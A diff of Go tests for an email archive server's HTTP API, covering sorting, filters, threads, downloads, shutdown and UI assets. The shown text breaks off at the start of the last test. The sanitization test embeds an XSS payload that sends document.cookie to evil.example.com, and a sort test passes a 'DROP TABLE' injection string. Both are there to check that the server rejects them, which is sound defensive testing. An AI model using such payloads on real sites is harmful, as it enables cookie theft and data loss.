@@ -1,12 +1,19 @@
 package server
 
 import (
-	"encoding/base64"
+	"archive/zip"
+	"bytes"
+	"context"
 	"encoding/json"
 	"fmt"
+	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"path/filepath"
+	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -16,7 +23,7 @@ import (
 	"github.com/stretchr/testify/require"
 )
 
-func setupTestServer(t *testing.T) (*Server, *storage.Storage) {
+func setupTestServer(t *testing.T, opts ...Option) (*Server, *storage.Storage) {
 	log := logrus.New()
 	log.SetLevel(logrus.PanicLevel)
 
@@ -25,10 +32,67 @@ func setupTestServer(t *testing.T) (*Server, *storage.Storage) {
 	store, err := storage.New(dbPath, log)
 	require.NoError(t, err)
 
-	server := New(store, log)
+	server := New(store, log, opts...)
 	return server, store
 }
 
+func TestHealthz(t *testing.T) {
+	t.Run("healthy", func(t *testing.T) {
+		server, store := setupTestServer(t)
+		defer store.Close()
+
+		req := httptest.NewRequest(http.MethodGet, "/healthz", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		assert.Equal(t, "application/json", w.Header().Get("Content-Type"))
+		assert.JSONEq(t, `{"status":"ok"}`, w.Body.String())
+	})
+
+	t.Run("database closed", func(t *testing.T) {
+		server, store := setupTestServer(t)
+		require.NoError(t, store.Close())
+
+		req := httptest.NewRequest(http.MethodGet, "/healthz", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusServiceUnavailable, w.Code)
+		assert.JSONEq(t, `{"status":"unavailable"}`, w.Body.String())
+	})
+}
+
+func TestMetrics(t *testing.T) {
+	t.Run("enabled", func(t *testing.T) {
+		server, store := setupTestServer(t, WithMetrics(true))
+		defer store.Close()
+
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes", nil)
+		server.ServeHTTP(httptest.NewRecorder(), req)
+
+		req = httptest.NewRequest(http.MethodGet, "/metrics", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		body := w.Body.String()
+		assert.Contains(t, body, "imapsync_imap_reconnects_total")
+		assert.Contains(t, body, `imapsync_http_request_duration_seconds_count{code="200",method="GET",route="/api/v1/mailboxes"}`)
+	})
+
+	t.Run("disabled", func(t *testing.T) {
+		server, store := setupTestServer(t)
+		defer store.Close()
+
+		req := httptest.NewRequest(http.MethodGet, "/metrics", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusNotFound, w.Code)
+	})
+}
+
 func TestListMailboxes(t *testing.T) {
 	t.Run("empty mailboxes", func(t *testing.T) {
 		server, store := setupTestServer(t)
@@ -188,10 +252,11 @@ func TestGetEmail(t *testing.T) {
 			Mailbox:    "INBOX",
 			Subject:    "Test Email",
 			From:       "sender@example.com",
+			FromName:   "Sender Name",
 			To:         []string{"recipient@example.com"},
+			Cc:         []string{"copy@example.com"},
 			Date:       time.Now(),
 			Size:       1024,
-			Body:       []byte("Test body"),
 			Headers:    []byte("Header: value\r\n"),
 			RawMessage: rawMsg,
 		})
@@ -209,6 +274,9 @@ func TestGetEmail(t *testing.T) {
 		require.NoError(t, err)
 		assert.Equal(t, "Test Email", response["subject"])
 		assert.Equal(t, "sender@example.com", response["from"])
+		assert.Equal(t, "Sender Name", response["from_name"])
+		assert.Equal(t, []interface{}{"copy@example.com"}, response["cc"])
+		assert.Nil(t, response["bcc"])
 		assert.Contains(t, response["body"], "This is the email body content")
 	})
 
@@ -250,7 +318,6 @@ func TestGetEmail(t *testing.T) {
 			To:         []string{"recipient@example.com"},
 			Date:       time.Now(),
 			Size:       1024,
-			Body:       []byte("Test body"),
 			Headers:    []byte("Header: value\r\n"),
 			RawMessage: rawMsg,
 		})
@@ -300,6 +367,84 @@ func TestGetEmail(t *testing.T) {
 		require.NoError(t, err)
 		assert.Contains(t, response["body"], "<h1>Hello World</h1>")
 	})
+
+	t.Run("html email is sanitized", func(t *testing.T) {
+		server, store := setupTestServer(t)
+		defer store.Close()
+
+		rawMsg := []byte("From: sender@example.com\r\nTo: recipient@example.com\r\nSubject: Injection\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
+			`<html><body><script>fetch("https://evil.example.com/?c="+document.cookie)</script>` +
+			`<p onclick="alert(1)">Hello</p><a href="javascript:alert(2)">link</a>` +
+			`<img src="https://tracker.example.com/open.gif"></body></html>`)
+
+		err := store.SaveEmail(&storage.Email{
+			UID:        3,
+			Mailbox:    "INBOX",
+			Subject:    "Injection",
+			From:       "sender@example.com",
+			To:         []string{"recipient@example.com"},
+			Date:       time.Now(),
+			Size:       512,
+			RawMessage: rawMsg,
+		})
+		require.NoError(t, err)
+
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/3", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
+
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+
+		sanitized, ok := response["bodyHTMLSanitized"].(string)
+		require.True(t, ok)
+		assert.Contains(t, sanitized, "<p>Hello</p>")
+		for _, bad := range []string{"<script", "evil.example.com", "onclick", "javascript:", "tracker.example.com"} {
+			assert.NotContains(t, sanitized, bad)
+			assert.NotContains(t, response["body"], bad)
+		}
+		assert.NotContains(t, response, "bodyHTML")
+
+		req = httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/3?allowRemote=1", nil)
+		w = httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
+
+		response = nil
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		assert.Contains(t, response["bodyHTMLSanitized"], `<img src="https://tracker.example.com/open.gif">`)
+		assert.NotContains(t, response["bodyHTMLSanitized"], "<script")
+
+		req = httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/3/download", nil)
+		w = httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		assert.Equal(t, rawMsg, w.Body.Bytes())
+	})
+
+	t.Run("body skipped for oversized email", func(t *testing.T) {
+		server, store := setupTestServer(t)
+		defer store.Close()
+
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:     4,
+			Mailbox: "INBOX",
+			Subject: "Video",
+			Date:    time.Now(),
+			Size:    50 << 20,
+			Headers: []byte("Subject: Video\r\n"),
+		}))
+
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/4", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
+
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		assert.Equal(t, true, response["bodySkipped"])
+		assert.Equal(t, "", response["body"])
+	})
 }
 
 func TestDownloadEmail(t *testing.T) {
@@ -326,6 +471,13 @@ func TestDownloadEmail(t *testing.T) {
 		assert.Equal(t, http.StatusOK, w.Code)
 		assert.Equal(t, "message/rfc822", w.Header().Get("Content-Type"))
 		assert.Equal(t, raw, w.Body.Bytes())
+
+		req = httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/1/download", nil)
+		req.Header.Set("Range", "bytes=10-")
+		w = httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusPartialContent, w.Code)
+		assert.Equal(t, raw[10:], w.Body.Bytes(), "a cut download resumes")
 	})
 
 	t.Run("not found", func(t *testing.T) {
@@ -369,6 +521,60 @@ func TestDownloadEmail(t *testing.T) {
 	})
 }
 
+func TestGetHeaders(t *testing.T) {
+	t.Run("stored headers", func(t *testing.T) {
+		server, store := setupTestServer(t)
+		defer store.Close()
+
+		headers := []byte("Received: from mx.example.com by mail.example.org\r\nSubject: Hi\r\n\r\n")
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:        1,
+			Mailbox:    "INBOX",
+			Date:       time.Now(),
+			Headers:    headers,
+			RawMessage: append(bytes.Clone(headers), "Body"...),
+		}))
+
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/1/headers", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		assert.Equal(t, "text/plain; charset=utf-8", w.Header().Get("Content-Type"))
+		assert.Contains(t, w.Body.String(), "Received: from mx.example.com")
+		assert.NotContains(t, w.Body.String(), "Body")
+	})
+
+	t.Run("falls back to raw message", func(t *testing.T) {
+		server, store := setupTestServer(t)
+		defer store.Close()
+
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:        2,
+			Mailbox:    "INBOX",
+			Date:       time.Now(),
+			RawMessage: []byte("X-Spam-Status: No\r\nSubject: Hi\r\n\r\nBody"),
+		}))
+
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/2/headers", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+
+		assert.Equal(t, http.StatusOK, w.Code)
+		assert.Equal(t, "X-Spam-Status: No\r\nSubject: Hi\r\n\r\n", w.Body.String())
+	})
+
+	t.Run("not found", func(t *testing.T) {
+		server, store := setupTestServer(t)
+		defer store.Close()
+
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails/999/headers", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusNotFound, w.Code)
+	})
+}
+
 func TestGetEmail_Multipart(t *testing.T) {
 	server, store := setupTestServer(t)
 	defer store.Close()
@@ -398,38 +604,363 @@ func TestGetEmail_Multipart(t *testing.T) {
 	assert.Contains(t, response["body"], "HTML part")
 }
 
-func TestDecodeBody(t *testing.T) {
-	s := &Server{log: logrus.New()}
+func TestListEmails_Sort(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	base := time.Date(2025, 1, 1, 12, 0, 0, 0, time.UTC)
+	// UID, date, size and subject order all disagree.
+	for _, e := range []*storage.Email{
+		{UID: 1, Subject: "banana", Size: 200, Date: base.AddDate(0, 0, 3)},
+		{UID: 2, Subject: "cherry", Size: 300, Date: base.AddDate(0, 0, 1)},
+		{UID: 3, Subject: "Apple", Size: 100, Date: base.AddDate(0, 0, 2)},
+	} {
+		e.Mailbox = "INBOX"
+		require.NoError(t, store.SaveEmail(e))
+	}
+
+	listUIDs := func(t *testing.T, query string) (map[string]interface{}, []float64) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails"+query, nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
+
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		var uids []float64
+		for _, e := range response["emails"].([]interface{}) {
+			uids = append(uids, e.(map[string]interface{})["uid"].(float64))
+		}
+		return response, uids
+	}
+
+	tests := []struct {
+		query string
+		sort  string
+		order string
+		uids  []float64
+	}{
+		{"", "uid", "desc", []float64{3, 2, 1}},
+		{"?order=asc", "uid", "asc", []float64{1, 2, 3}},
+		{"?sort=date", "date", "desc", []float64{1, 3, 2}},
+		{"?sort=date&order=asc", "date", "asc", []float64{2, 3, 1}},
+		{"?sort=size", "size", "desc", []float64{2, 1, 3}},
+		{"?sort=size&order=asc", "size", "asc", []float64{3, 1, 2}},
+		{"?sort=subject&order=asc", "subject", "asc", []float64{3, 1, 2}},
+		{"?sort=subject", "subject", "desc", []float64{2, 1, 3}},
+		{"?sort=arrival", "arrival", "desc", []float64{1, 3, 2}},
+	}
+	for _, tt := range tests {
+		t.Run("sort"+tt.query, func(t *testing.T) {
+			response, uids := listUIDs(t, tt.query)
+			assert.Equal(t, tt.sort, response["sort"])
+			assert.Equal(t, tt.order, response["order"])
+			assert.Equal(t, tt.uids, uids)
+		})
+	}
+
+	for _, query := range []string{"?sort=from_addr", "?sort=uid%3B%20DROP%20TABLE%20emails", "?order=up"} {
+		t.Run("invalid "+query, func(t *testing.T) {
+			req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails"+query, nil)
+			w := httptest.NewRecorder()
+			server.ServeHTTP(w, req)
+			assert.Equal(t, http.StatusBadRequest, w.Code)
+		})
+	}
+}
+
+func TestListEmails_SortByArrival(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	base := time.Date(2025, 1, 1, 12, 0, 0, 0, time.UTC)
+	received := func(days int) *time.Time {
+		t := base.AddDate(0, 0, days)
+		return &t
+	}
+	// UID 1 was moved in last, and UID 3 was stored before INTERNALDATE was
+	// fetched, so it arrived on its date.
+	for _, e := range []*storage.Email{
+		{UID: 1, Date: base, InternalDate: received(5)},
+		{UID: 2, Date: base.AddDate(0, 0, 4), InternalDate: received(1)},
+		{UID: 3, Date: base.AddDate(0, 0, 2)},
+	} {
+		e.Mailbox = "INBOX"
+		require.NoError(t, store.SaveEmail(e))
+	}
+
+	req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails?sort=arrival", nil)
+	w := httptest.NewRecorder()
+	server.ServeHTTP(w, req)
+	require.Equal(t, http.StatusOK, w.Code)
+
+	var response struct {
+		Emails []struct {
+			UID uint32 `json:"uid"`
+		} `json:"emails"`
+	}
+	require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+	var uids []uint32
+	for _, e := range response.Emails {
+		uids = append(uids, e.UID)
+	}
+	assert.Equal(t, []uint32{1, 3, 2}, uids, "newest received first")
+}
+
+func TestListEmails_FromFilter(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	require.NoError(t, store.SaveEmailBatch([]*storage.Email{
+		{UID: 1, Mailbox: "INBOX", Date: time.Now(), From: "alice@example.com", Flags: []string{`\Seen`}},
+		{UID: 2, Mailbox: "INBOX", Date: time.Now(), From: "bob@example.com"},
+		{UID: 3, Mailbox: "INBOX", Date: time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC), From: "Alice@Example.org"},
+		{UID: 4, Mailbox: "Sent", Date: time.Now(), From: "alice@example.com"},
+	}))
+
+	get := func(query string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails"+query, nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		return w
+	}
+
+	w := get("?from=alice")
+	require.Equal(t, http.StatusOK, w.Code, w.Body.String())
+	var response struct {
+		Emails []struct {
+			UID uint32 `json:"uid"`
+		} `json:"emails"`
+		Total int    `json:"total"`
+		From  string `json:"from"`
+	}
+	require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+	var uids []uint32
+	for _, e := range response.Emails {
+		uids = append(uids, e.UID)
+	}
+	assert.Equal(t, []uint32{3, 1}, uids)
+	assert.Equal(t, 2, response.Total)
+	assert.Equal(t, "alice", response.From)
+
+	t.Run("combined with other parameters", func(t *testing.T) {
+		for query, want := range map[string][]uint32{
+			"?from=alice&flag=seen":          {1},
+			"?from=alice&until=2025-01-01":   {3},
+			"?from=alice&after=3":            {1},
+			"?from=alice&sort=uid&order=asc": {1, 3},
+			"?from=example.com&flag=unseen":  {2},
+			"?from=alice&since=2025-01-01":   {1},
+		} {
+			w := get(query)
+			require.Equal(t, http.StatusOK, w.Code, query)
+			var response struct {
+				Emails []struct {
+					UID uint32 `json:"uid"`
+				} `json:"emails"`
+				Total int `json:"total"`
+			}
+			require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+			var uids []uint32
+			for _, e := range response.Emails {
+				uids = append(uids, e.UID)
+			}
+			assert.Equal(t, want, uids, query)
+			if query != "?from=alice&after=3" {
+				assert.Equal(t, len(want), response.Total, query)
+			}
+		}
+	})
+}
+
+func TestListEmails_FlagFilter(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	for uid, flags := range map[uint32][]string{
+		1: {`\Seen`},
+		2: {},
+		3: {`\Seen`, `\Flagged`},
+		4: {`\Flagged`},
+		5: {`$SeenByBot`},
+	} {
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:     uid,
+			Mailbox: "INBOX",
+			Date:    time.Now(),
+			Flags:   flags,
+		}))
+	}
+
+	list := func(t *testing.T, query string) (float64, []float64) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails"+query, nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
 
-	t.Run("quoted-printable", func(t *testing.T) {
-		result := s.decodeBody([]byte("Hello=20World"), "quoted-printable")
-		assert.Equal(t, "Hello World", string(result))
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		var uids []float64
+		for _, e := range response["emails"].([]interface{}) {
+			uids = append(uids, e.(map[string]interface{})["uid"].(float64))
+		}
+		return response["total"].(float64), uids
+	}
+
+	t.Run("unseen", func(t *testing.T) {
+		total, uids := list(t, "?flag=unseen")
+		assert.Equal(t, float64(3), total)
+		assert.Equal(t, []float64{5, 4, 2}, uids)
 	})
 
-	t.Run("base64", func(t *testing.T) {
-		original := []byte("Hello, World!")
-		encoded := base64.StdEncoding.EncodeToString(original)
-		result := s.decodeBody([]byte(encoded), "base64")
-		assert.Equal(t, original, result)
+	t.Run("flagged", func(t *testing.T) {
+		total, uids := list(t, "?flag=flagged")
+		assert.Equal(t, float64(2), total)
+		assert.Equal(t, []float64{4, 3}, uids)
+	})
+
+	t.Run("combined", func(t *testing.T) {
+		total, uids := list(t, "?flag=unseen&flag=flagged")
+		assert.Equal(t, float64(1), total)
+		assert.Equal(t, []float64{4}, uids)
+	})
+
+	t.Run("invalid flag", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails?flag=important", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusBadRequest, w.Code)
+	})
+}
+
+func TestListEmails_DateRange(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	for uid, date := range map[uint32]time.Time{
+		1: time.Date(2024, 12, 31, 23, 59, 59, 0, time.UTC),
+		2: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC),
+		3: time.Date(2025, 1, 15, 12, 0, 0, 0, time.UTC),
+		4: time.Date(2025, 1, 31, 23, 30, 0, 0, time.UTC),
+		5: time.Date(2025, 2, 1, 0, 0, 0, 0, time.UTC),
+		6: {}, // unknown date
+	} {
+		require.NoError(t, store.SaveEmail(&storage.Email{UID: uid, Mailbox: "INBOX", Date: date, Flags: []string{}}))
+	}
+
+	list := func(t *testing.T, query string) (map[string]interface{}, []float64) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails"+query, nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
+
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		var uids []float64
+		for _, e := range response["emails"].([]interface{}) {
+			uids = append(uids, e.(map[string]interface{})["uid"].(float64))
+		}
+		return response, uids
+	}
+
+	t.Run("january", func(t *testing.T) {
+		response, uids := list(t, "?since=2025-01-01&until=2025-01-31")
+		assert.Equal(t, []float64{4, 3, 2}, uids, "until includes the whole day")
+		assert.Equal(t, float64(3), response["total"])
+		assert.Equal(t, float64(1), response["total_pages"])
 	})
 
-	t.Run("base64 invalid", func(t *testing.T) {
-		input := []byte("not!!!valid!!!base64")
-		result := s.decodeBody(input, "base64")
-		assert.Equal(t, input, result)
+	t.Run("paged", func(t *testing.T) {
+		response, uids := list(t, "?since=2025-01-01&until=2025-01-31&limit=2")
+		assert.Equal(t, []float64{4, 3}, uids)
+		assert.Equal(t, float64(3), response["total"])
+		assert.Equal(t, float64(2), response["total_pages"])
 	})
 
-	t.Run("case insensitive", func(t *testing.T) {
-		original := []byte("test data")
-		encoded := base64.StdEncoding.EncodeToString(original)
-		result := s.decodeBody([]byte(encoded), "BASE64")
-		assert.Equal(t, original, result)
+	t.Run("rfc3339 and open ends", func(t *testing.T) {
+		_, uids := list(t, "?since=2025-01-15T12:00:00Z")
+		assert.Equal(t, []float64{5, 4, 3}, uids)
+
+		_, uids = list(t, "?until=2025-01-01T00:00:00Z")
+		assert.Equal(t, []float64{2, 1}, uids, "undated emails are outside any range")
 	})
 
-	t.Run("no encoding", func(t *testing.T) {
-		input := []byte("plain text")
-		result := s.decodeBody(input, "")
-		assert.Equal(t, input, result)
+	t.Run("cursor", func(t *testing.T) {
+		response, uids := list(t, "?since=2025-01-01&until=2025-01-31&after=4&limit=1")
+		assert.Equal(t, []float64{3}, uids)
+		assert.Equal(t, float64(3), response["total"])
+	})
+
+	for name, query := range map[string]string{
+		"invalid since": "?since=yesterday",
+		"invalid until": "?until=2025-13-01",
+		"reversed":      "?since=2025-02-01&until=2025-01-01",
+	} {
+		t.Run(name, func(t *testing.T) {
+			req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails"+query, nil)
+			w := httptest.NewRecorder()
+			server.ServeHTTP(w, req)
+			assert.Equal(t, http.StatusBadRequest, w.Code)
+		})
+	}
+}
+
+func TestGetThread(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	base := time.Date(2025, 1, 1, 12, 0, 0, 0, time.UTC)
+	for i, headers := range []string{
+		"Message-ID: <root/1@example.com>\r\nSubject: Plans\r\n\r\n",
+		"Message-ID: <reply@example.com>\r\nIn-Reply-To: <root/1@example.com>\r\nSubject: Re: Plans\r\n\r\n",
+		"Message-ID: <other@example.com>\r\nSubject: Other\r\n\r\n",
+	} {
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:     uint32(i + 1),
+			Mailbox: "INBOX",
+			Date:    base.AddDate(0, 0, i),
+			Headers: []byte(headers),
+		}))
+	}
+
+	t.Run("returns the conversation", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/threads/"+url.PathEscape("<root/1@example.com>"), nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
+
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		assert.Equal(t, "<root/1@example.com>", response["thread_id"])
+		emails := response["emails"].([]interface{})
+		require.Len(t, emails, 2)
+		assert.Equal(t, float64(1), emails[0].(map[string]interface{})["uid"])
+		assert.Equal(t, float64(2), emails[1].(map[string]interface{})["uid"])
+	})
+
+	t.Run("list includes thread ids", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
+
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		threads := map[float64]interface{}{}
+		for _, e := range response["emails"].([]interface{}) {
+			email := e.(map[string]interface{})
+			threads[email["uid"].(float64)] = email["thread_id"]
+		}
+		assert.Equal(t, "<root/1@example.com>", threads[1])
+		assert.Equal(t, "<root/1@example.com>", threads[2])
+		assert.Equal(t, "<other@example.com>", threads[3])
+	})
+
+	t.Run("unknown thread", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/threads/"+url.PathEscape("<missing@example.com>"), nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusNotFound, w.Code)
 	})
 }
 
@@ -458,10 +989,25 @@ func TestListEmails_Pagination(t *testing.T) {
 		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
 		assert.Equal(t, float64(2), response["page"])
 		assert.Equal(t, float64(2), response["limit"])
+		assert.Equal(t, true, response["has_more"])
+		assert.Equal(t, float64(3), response["next_page"])
 		emails := response["emails"].([]interface{})
 		assert.Len(t, emails, 2)
 	})
 
+	t.Run("last page", func(t *testing.T) {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails?page=3&limit=2", nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusOK, w.Code)
+		var response map[string]interface{}
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&response))
+		assert.Equal(t, false, response["has_more"])
+		assert.Contains(t, response, "next_page")
+		assert.Nil(t, response["next_page"])
+		assert.Len(t, response["emails"], 1)
+	})
+
 	t.Run("invalid page defaults to 1", func(t *testing.T) {
 		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails?page=invalid", nil)
 		w := httptest.NewRecorder()
@@ -483,6 +1029,59 @@ func TestListEmails_Pagination(t *testing.T) {
 	})
 }
 
+func TestListEmails_Cursor(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	for i := 1; i <= 7; i++ {
+		require.NoError(t, store.SaveEmail(&storage.Email{
+			UID:     uint32(i * 10),
+			Mailbox: "INBOX",
+			Subject: fmt.Sprintf("Email %d", i),
+			Date:    time.Now(),
+		}))
+	}
+
+	type cursorPage struct {
+		Emails []struct {
+			UID uint32 `json:"uid"`
+		} `json:"emails"`
+		Total      int     `json:"total"`
+		NextCursor *uint32 `json:"next_cursor"`
+	}
+
+	var uids []uint32
+	after := "0"
+	for pages := 0; ; pages++ {
+		require.Less(t, pages, 10, "cursor must reach the end")
+
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails?limit=3&after="+after, nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		require.Equal(t, http.StatusOK, w.Code)
+
+		var page cursorPage
+		require.NoError(t, json.NewDecoder(w.Body).Decode(&page))
+		assert.Equal(t, 7, page.Total)
+		for _, e := range page.Emails {
+			uids = append(uids, e.UID)
+		}
+		if page.NextCursor == nil {
+			break
+		}
+		after = strconv.FormatUint(uint64(*page.NextCursor), 10)
+	}
+
+	assert.Equal(t, []uint32{70, 60, 50, 40, 30, 20, 10}, uids)
+
+	for _, query := range []string{"after=abc", "after=-1", "after=10&sort=date"} {
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/mailboxes/INBOX/emails?"+query, nil)
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusBadRequest, w.Code, query)
+	}
+}
+
 func TestRun_InvalidAddr(t *testing.T) {
 	server, store := setupTestServer(t)
 	defer store.Close()
@@ -490,6 +1089,51 @@ func TestRun_InvalidAddr(t *testing.T) {
 	assert.Error(t, err)
 }
 
+func TestRunWithContext_Shutdown(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	addr := l.Addr().String()
+	require.NoError(t, l.Close())
+
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() {
+		done <- server.RunWithContext(ctx, addr)
+	}()
+
+	require.Eventually(t, func() bool {
+		resp, err := http.Get("http://" + addr + "/healthz")
+		if err != nil {
+			return false
+		}
+		resp.Body.Close()
+		return resp.StatusCode == http.StatusOK
+	}, time.Second, 10*time.Millisecond)
+
+	cancel()
+	select {
+	case err := <-done:
+		assert.NoError(t, err)
+	case <-time.After(shutdownTimeout):
+		t.Fatal("server did not stop after the context was cancelled")
+	}
+
+	_, err = http.Get("http://" + addr + "/healthz")
+	assert.Error(t, err)
+}
+
+func TestRunTLS_MissingCert(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	dir := t.TempDir()
+	err := server.RunTLS("127.0.0.1:0", filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem"))
+	assert.Error(t, err)
+}
+
 func TestGetEmail_EmptyBody(t *testing.T) {
 	server, store := setupTestServer(t)
 	defer store.Close()
@@ -581,5 +1225,406 @@ func TestServeUI(t *testing.T) {
 
 	assert.Equal(t, http.StatusOK, w.Code)
 	assert.Contains(t, w.Header().Get("Content-Type"), "text/html")
-	assert.Contains(t, w.Body.String(), "Email Browser")
+	assert.Contains(t, w.Body.String(), "<title>Email Browser</title>")
+	assert.Contains(t, w.Body.String(), `data-api-base="/api/v1"`)
+	assert.Contains(t, w.Body.String(), "/ui/app.js?v="+uiVersion)
+}
+
+func TestServeUIAssets(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	get := func(path string) *httptest.ResponseRecorder {
+		w := httptest.NewRecorder()
+		server.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
+		return w
+	}
+
+	w := get("/ui/app.js?v=" + uiVersion)
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Contains(t, w.Header().Get("Content-Type"), "javascript")
+	assert.Contains(t, w.Header().Get("Cache-Control"), "immutable")
+	assert.Contains(t, w.Body.String(), "loadMailboxes")
+
+	w = get("/ui/style.css")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Contains(t, w.Header().Get("Content-Type"), "text/css")
+	assert.Empty(t, w.Header().Get("Cache-Control"), "unversioned requests aren't cached for good")
+
+	assert.Equal(t, http.StatusNotFound, get("/ui/").Code)
+	assert.Equal(t, http.StatusNotFound, get("/ui/index.html").Code)
+	assert.Equal(t, http.StatusNotFound, get("/ui/missing.js").Code)
+}
+
+func TestRecentEmails(t *testing.T) {
+	server, store := setupTestServer(t)
+	defer store.Close()
+
+	base := time.Date(2025, 1, 1, 12, 0, 0, 0, time.UTC)
